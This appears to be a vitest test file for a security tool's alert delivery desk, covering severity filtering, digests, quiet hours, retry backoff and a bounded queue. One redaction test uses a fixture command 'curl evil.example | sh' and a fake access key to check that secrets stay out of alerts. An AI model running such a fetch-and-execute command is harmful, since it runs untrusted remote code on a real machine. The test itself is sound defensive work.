import { describe, expect, test } from 'vitest';
import { DeliveryError } from '../../src/alerts/delivery-error.ts';
import { readSavedAlerts } from '../../src/alerts/saved-alerts.ts';
import type { DigestNotice } from '../../src/model/alert.ts';
import { FakeSink, finding, hour, minute, start, TestDesk } from './alert-room.ts';

const digestsOf = ({ told }: FakeSink) =>
  told.filter((notice): notice is DigestNotice => notice.kind === 'digest');

describe('what a sink hears', () => {
  test('is each finding of at least its severity, once, in order', async () => {
    const all = new FakeSink({ minSeverity: 'info' }, 'all');
    const high = new FakeSink({ minSeverity: 'high' }, 'high');
    const room = new TestDesk([all, high]);
    for (const turn of [1, 2]) {
      room.desk.offer(finding(1, { severity: 'low', revision: turn }));
      room.desk.offer(finding(2, { severity: 'high', revision: turn }));
      room.desk.offer(finding(3, { severity: 'critical', revision: turn }));
      await room.desk.deliver();
    }
    expect(all.ids).toEqual(['1.low', '2.high', '3.critical']);
    expect(high.ids).toEqual(['2.high', '3.critical']);
  });

  test('is a finding again when it became worse, with its revision and what it was', async () => {
    const sink = new FakeSink();
    const room = new TestDesk([sink]);
    room.desk.offer(finding(1));
    room.desk.offer(finding(1, { severity: 'critical', revision: 4 }));
    room.desk.offer(finding(1, { severity: 'high', revision: 5 }));
    await room.desk.deliver();
    expect(sink.told).toMatchObject([
      { severity: 'medium', revision: 1 },
      { severity: 'critical', revision: 4, was: 'medium' },
    ]);
  });

  test('is nothing of a suppressed finding', async () => {
    const sink = new FakeSink();
    const room = new TestDesk([sink]);
    room.desk.offer(finding(1, { suppressedBy: 'travelling' }));
    await room.desk.deliver();
    expect(sink.told).toEqual([]);
    expect(room.desk.nextDue()).toBeNull();
  });

  test('holds no excerpt, no fact and no secret', async () => {
    const sink = new FakeSink();
    const room = new TestDesk([sink]);
    const facts = [{ name: 'command', value: 'curl evil.example | sh', number: null }];
    room.desk.offer(
      finding(1, {
        summary: 'called with token=AKIAIOSFODNN7EXAMPLE99 in it',
        explanation: { ...finding(1).explanation, facts },
      }),
    );
    await room.desk.deliver();
    const told = JSON.stringify(sink.told);
    expect(told).toContain('/tmp/openclaw/openclaw-2026-11-22.log');
    expect(told).not.toMatch(/unauthorized conn|evil\.example|AKIAIOSFODNN7/);
  });
});

describe('a finding that goes on', () => {
  test('is told once in each repeat time, in one digest with what goes on beside it', async () => {
    const sink = new FakeSink({ repeat: hour });
    const room = new TestDesk([sink]);
    room.desk.offer(finding(1));
    room.desk.offer(finding(2));
    await room.desk.deliver();
    room.desk.offer(finding(1, { count: 300, revision: 7 }));
    room.desk.offer(finding(1, { count: 417, revision: 9 }));
    room.desk.offer(finding(2, { count: 6, revision: 2 }));
    expect(room.desk.nextDue()).toBe(start + hour);
    await room.after(hour - 1);
    expect(digestsOf(sink)).toEqual([]);
    await room.after(1);
    expect(digestsOf(sink)).toMatchObject([
      { ongoing: { total: 2, items: [{ more: 412, count: 417, revision: 9 }, { more: 1 }] } },
    ]);
    await room.after(5 * hour);
    expect(sink.told).toHaveLength(3);
  });

  test('is no news when only its end was seen', async () => {
    const sink = new FakeSink();
    const room = new TestDesk([sink]);
    room.desk.offer(finding(1));
    room.desk.offer(finding(1, { status: 'closed', revision: 2 }));
    await room.after(48 * hour);
    expect(sink.ids).toEqual(['1.medium']);
  });
});

describe('quiet hours', () => {
  const quietHours = { from: 13 * 60, to: 7 * 60, timeZone: 'Europe/Berlin', except: 'critical' } as const;

  test('hold back all but the critical, and end with one digest', async () => {
    const sink = new FakeSink({ quietHours });
    const room = new TestDesk([sink]);
    room.desk.offer(finding(1));
    room.desk.offer(finding(2, { severity: 'high' }));
    room.desk.offer(finding(3, { severity: 'critical' }));
    await room.desk.deliver();
    expect(sink.ids).toEqual(['3.critical']);
    expect(room.desk.nextDue()).toBe(Date.parse('2026-11-23T06:00:00Z'));
    await room.after(Date.parse('2026-11-23T06:00:00Z') - start - 1);
    expect(sink.told).toHaveLength(1);
    await room.after(1);
    expect(digestsOf(sink)).toMatchObject([
      {
        severity: 'high',
        heldBack: {
          total: 2,
          byDetector: [{ detector: 'repeated-auth-failures', count: 2 }],
          items: [{ severity: 'high' }, { severity: 'medium' }],
        },
      },
    ]);
  });

  test('are kept over a restart', async () => {
    const sink = new FakeSink({ quietHours });
    const room = new TestDesk([sink]);
    room.desk.offer(finding(1));
    room.restart();
    await room.after(18 * hour);
    expect(digestsOf(sink)).toMatchObject([{ heldBack: { total: 1 } }]);
  });
});

describe('a storm', () => {
  test('becomes a digest a minute, and loses nothing', async () => {
    const sink = new FakeSink();
    const room = new TestDesk([sink]);
    for (let number = 1; number <= 1000; number += 1) room.desk.offer(finding(number));
    await room.desk.deliver();
    expect(sink.told).toHaveLength(20);
    await room.after(minute);
    const [digest] = digestsOf(sink);
    expect(digest?.heldBack).toMatchObject({
      total: 980,
      byDetector: [{ detector: 'repeated-auth-failures', count: 980 }],
    });
    expect(digest?.heldBack.items).toHaveLength(100);
    room.desk.offer(finding(2000));
    await room.desk.deliver();
    expect(sink.ids.at(-1)).toBe('2000.medium');
  });

  test('of lesser findings does not hold a critical one back, and is headed by its worst', async () => {
    const sink = new FakeSink({ perMinute: 5 });
    const room = new TestDesk([sink]);
    for (let number = 1; number <= 300; number += 1) room.desk.offer(finding(number));
    room.desk.offer(finding(500, { severity: 'critical' }));
    room.desk.offer(finding(501, { severity: 'high' }));
    await room.desk.deliver();
    expect(sink.ids.at(-1)).toBe('500.critical');
    await room.after(minute);
    const [digest] = digestsOf(sink);
    expect(digest).toMatchObject({ severity: 'high', heldBack: { total: 296 } });
    expect(digest?.heldBack.items[0]).toMatchObject({ severity: 'high' });
  });
});

describe('a heartbeat', () => {
  test('says that the watch is on, and how much it found and read', async () => {
    const sink = new FakeSink({ heartbeat: 12 * hour });
    const room = new TestDesk([sink], { pulse: () => ({ events: 7, lastEvent: start }) });
    expect(room.desk.nextDue()).toBe(start + 12 * hour);
    await room.after(12 * hour);
    room.desk.offer(finding(1));
    await room.after(12 * hour);
    expect(sink.told).toMatchObject([
      { kind: 'heartbeat', findings: 0, pulse: { events: 7 } },
      { kind: 'finding' },
      { kind: 'heartbeat', findings: 1, since: start + 12 * hour },
    ]);
  });

  test('does not pile up where nobody listens', async () => {
    const sink = new FakeSink({ heartbeat: hour });
    const room = new TestDesk([sink]);
    sink.failure = new Error('down');
    for (let turn = 0; turn < 10; turn += 1) await room.after(hour);
    expect(room.desk.figures).toMatchObject([{ queued: 1 }]);
  });
});

describe('a sink that fails', () => {
  test('is tried again, later each time, and then hears all in order', async () => {
    const sink = new FakeSink({ repeat: 100 * hour });
    const room = new TestDesk([sink]);
    sink.failure = new Error('connection refused');
    for (let number = 1; number <= 15; number += 1) room.desk.offer(finding(number));
    await room.desk.deliver();
    const waits: number[] = [];
    for (let turn = 0; turn < 14; turn += 1) {
      waits.push((room.desk.nextDue() ?? 0) - room.now);
      await room.after(waits.at(-1) ?? 0);
    }
    expect(waits.slice(0, 4)).toEqual([1000, 2000, 4000, 8000]);
    expect(waits.at(-1)).toBe(7.5 * minute);
    expect(room.desk.figures).toMatchObject([{ queued: 15, lastError: 'connection refused', failed: 15 }]);
    sink.failure = undefined;
    await room.settle();
    expect(sink.ids).toEqual(Array.from({ length: 15 }, (_, index) => `${index + 1}.medium`));
  });

  test('keeps no other waiting', async () => {
    const dead = new FakeSink({}, 'dead');
    const alive = new FakeSink({}, 'alive');
    const room = new TestDesk([{ ...dead, deliver: () => new Promise(() => {}) }, alive]);
    room.desk.offer(finding(1));
    void room.desk.deliver();
    await expect.poll(() => alive.ids).toEqual(['1.medium']);
    room.desk.offer(finding(2));
    void room.desk.deliver();
    await expect.poll(() => alive.ids).toEqual(['1.medium', '2.medium']);
  });

  test('is waited for as long as it asks', async () => {
    const sink = new FakeSink();
    const room = new TestDesk([sink]);
    sink.failure = new DeliveryError('429', { retryAfter: 5 * minute });
    room.desk.offer(finding(1));
    await room.desk.deliver();
    expect(room.desk.nextDue()).toBe(start + 5 * minute);
  });

  test('is not waited for longer because the clock was put back', async () => {
    const sink = new FakeSink();
    const room = new TestDesk([sink]);
    sink.failure = new Error('down');
    room.desk.offer(finding(1));
    await room.desk.deliver();
    sink.failure = undefined;
    await room.after(-1000 * hour);
    expect(sink.ids).toEqual(['1.medium']);
  });

  test('is given up when it refuses for good, until someone says to try again', async () => {
    const sink = new FakeSink();
    const room = new TestDesk([sink]);
    sink.failure = new DeliveryError('404', { permanent: true });
    room.desk.offer(finding(1));
    await room.desk.deliver();
    expect(room.desk.figures).toMatchObject([{ queued: 0, givenUp: 1 }]);
    room.restart();
    sink.failure = undefined;
    room.desk.offer(finding(2));
    expect(room.desk.retryAll()).toBe(2);
    await room.settle();
    expect(sink.ids).toEqual(['1.medium', '2.medium']);
    expect(room.desk.figures).toMatchObject([{ queued: 0, givenUp: 0 }]);
  });

  test('is given up after three days, but not by a machine that slept', async () => {
    const sink = new FakeSink();
    const room = new TestDesk([sink]);
    sink.failure = new Error('down');
    room.desk.offer(finding(1));
    await room.after(96 * hour);
    expect(room.desk.figures).toMatchObject([{ queued: 1, givenUp: 0 }]);
    for (let turn = 0; turn < 20; turn += 1) await room.after(15 * minute);
    expect(room.desk.figures).toMatchObject([{ queued: 0, givenUp: 1 }]);
  });

  test('stops at once when the watch ends, without an attempt that counts', async () => {
    const room = new TestDesk([new FakeSink()]);
    room.desk.offer(finding(1));
    await room.desk.deliver(AbortSignal.abort());
    expect(room.desk.figures).toMatchObject([{ queued: 1, failed: 0 }]);
  });
});

describe('the queue', () => {
  test('is bounded: the oldest of the least severe go, and the next message says how many', async () => {
    const sink = new FakeSink({ perMinute: 1000 });
    const room = new TestDesk([sink], { mostQueued: 10 });
    sink.failure = new Error('down');
    room.desk.offer(finding('crit', { severity: 'critical' }));
    for (let number = 1; number <= 30; number += 1) room.desk.offer(finding(number));
    await room.desk.deliver();
    expect(room.desk.figures).toMatchObject([{ queued: 10, dropped: 21 }]);
    room.restart();
    sink.failure = undefined;
    await room.settle();
    expect(sink.ids[0]).toBe('crit.critical');
    expect(sink.ids.at(-1)).toBe('30.medium');
    expect(sink.told.map(({ dropped }) => dropped)).toEqual([21, ...Array(9)]);
  });

  test('is bounded in bytes', () => {
    const room = new TestDesk([new FakeSink({ perMinute: 1000 })], { mostBytes: 20_000 });
    for (let number = 1; number <= 500; number += 1) room.desk.offer(finding(number));
    const { queued = 0 } = room.desk.figures[0] ?? {};
    expect(queued).toBeGreaterThan(5);
    expect(JSON.stringify(room.desk.save()).length).toBeLessThan(100_000);
  });

  test('survives a crash at any moment: what had not arrived is sent again under the same id', async () => {
    const sink = new FakeSink();
    const room = new TestDesk([sink]);
    room.desk.offer(finding(1));
    const saved = room.saved();
    await room.desk.deliver();
    room.restart(saved);
    room.desk.offer(finding(1));
    await room.settle();
    expect(sink.ids).toEqual(['1.medium', '1.medium']);
    expect(sink.told[0]).toEqual(sink.told[1]);
  });

  test('of a sink that the settings no longer name is kept until they do again', async () => {
    const gone = new FakeSink({}, 'gone');
    const room = new TestDesk([gone]);
    room.desk.offer(finding(1));
    const other = new TestDesk([new FakeSink({}, 'other')]);
    other.restart(room.saved());
    room.restart(other.saved());
    await room.settle();
    expect(gone.ids).toEqual(['1.medium']);
  });

  test('says when there is something new to save', async () => {
    const sink = new FakeSink();
    const { desk } = new TestDesk([sink]);
    const seen = [desk.changes];
    desk.offer(finding(1));
    seen.push(desk.changes);
    await desk.deliver();
    seen.push(desk.changes);
    desk.offer(finding(1, { count: 9 }));
    seen.push(desk.changes);
    await desk.deliver();
    expect(new Set(seen).size).toBe(4);
    expect(desk.changes).toBe(seen.at(-1));
  });

  test('is read back as it was saved, and nothing else is', () => {
    const room = new TestDesk([new FakeSink({ heartbeat: hour })]);
    room.desk.offer(finding(1));
    expect(readSavedAlerts(room.saved())).toEqual(room.saved());
    for (const other of [null, 7, {}, { sinks: [{}] }, { sinks: [{ name: 'x', outbox: null }] }])
      expect(readSavedAlerts(other)).toBeUndefined();
  });
});

test('many findings that go on leave a bounded state', async () => {
  const sink = new FakeSink();
  const room = new TestDesk([sink]);
  for (let number = 1; number <= 20_000; number += 1) room.desk.offer(finding(number));
  for (let number = 1; number <= 20_000; number += 1) room.desk.offer(finding(number, { count: 9 }));
  expect(JSON.stringify(room.desk.save()).length).toBeLessThan(1_500_000);
});
